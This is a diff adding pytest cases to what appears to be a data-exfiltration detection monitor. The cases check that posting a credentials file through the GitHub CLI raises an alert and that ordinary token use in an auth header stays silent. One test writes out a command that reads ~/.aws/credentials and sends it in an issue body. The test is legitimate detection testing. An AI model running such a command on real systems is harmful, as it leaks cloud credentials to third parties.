@@ -18,7 +18,7 @@ from pathlib import Path
 import pytest
 
 from harness import Monitor, alert_threshold, get, make_certificate, private_hosts, run_scenario
-from harness import paths, summarize
+from harness import is_alert, paths, replay, summarize
 from harness.records import as_list, kind
 from harness.config import HTTPS_PORT
 from harness.services import BackgroundProcess, BackgroundService, read_json_lines, wait_until
@@ -399,6 +399,41 @@ def test_wget_post_file_of_hosts_yml_alerts(monitor, home, storage, tmp_path):
     found = assert_alert_here(monitor, home, "T1567.001")
     assert_content_match(found, "raw")
     assert any(get(s, "exfilwatch.content.source") == "gnutls" for s in content_scans(monitor))
+
+
+# --- a Go client's command line (gh: its own TLS, no library write for the uprobes to see) --------
+# Where the plaintext cannot be seen, a secret the client's command line carries says which it is:
+# as an authentication header's value it is use; as a field of the request it sends, a leak
+# (content-match "in the argument"), however small the secret and whatever the destination.
+
+def test_gh_api_with_the_aws_key_in_an_issue_body_alerts(monitor, home, storage, tmp_path, rules_file):
+    run('gh api repos/our-org/app/issues -f title=bug -f "body=$(cat $HOME/.aws/credentials)" >/dev/null',
+        home, storage, tmp_path)
+    uploaded(storage, "POST", "/repos/our-org/app/issues")
+    found = assert_alert_here(monitor, home, "T1567.001")
+    evidence = [str(s.get("evidence", "")) for a in found for s in as_list(get(a, "exfilwatch.signals", []))
+                if s.get("name") == "content-match"]
+    assert any("in the argument -f" in e for e in evidence), evidence
+    # The command line's scan is telemetry (no byte of the key in it): a replay, which has no
+    # fingerprints, decides the same alerts from it.
+    scans = [r for r in monitor.records() if get(r, "event.action") == "content-scan"
+             and get(r, "exfilwatch.content.source") == "argv"]
+    assert any(m.get("location") == "argument" for r in scans
+               for m in as_list(get(r, "exfilwatch.content.matches", []))), scans
+    returncode, records, stderr = replay(monitor.output, tmp_path / "replayed.ndjson",
+                                         extra_args=["--rules", str(rules_file)])
+    assert returncode == 0, stderr
+    def key(record):
+        return (get(record, "event.risk_score"), get(record, "event.reason"))
+    assert sorted(map(key, filter(is_alert, records))) == sorted(map(key, filter(is_alert, monitor.records())))
+
+
+def test_gh_api_with_the_hosts_yml_token_in_an_authorization_header_is_silent(monitor, home, storage, tmp_path):
+    run(TOKEN + 'gh api -H "Authorization: token $TOKEN" repos/our-org/app/statuses/0123abcd '
+        "-f state=success -f context=ci >/dev/null", home, storage, tmp_path)
+    uploaded(storage, "POST", "/statuses/0123abcd")
+    wait_for_flow(monitor, storage, "api.github.com")
+    assert_silent_here(monitor, home)
 
 
 # --- rclone -----------------------------------------------------------------------------------
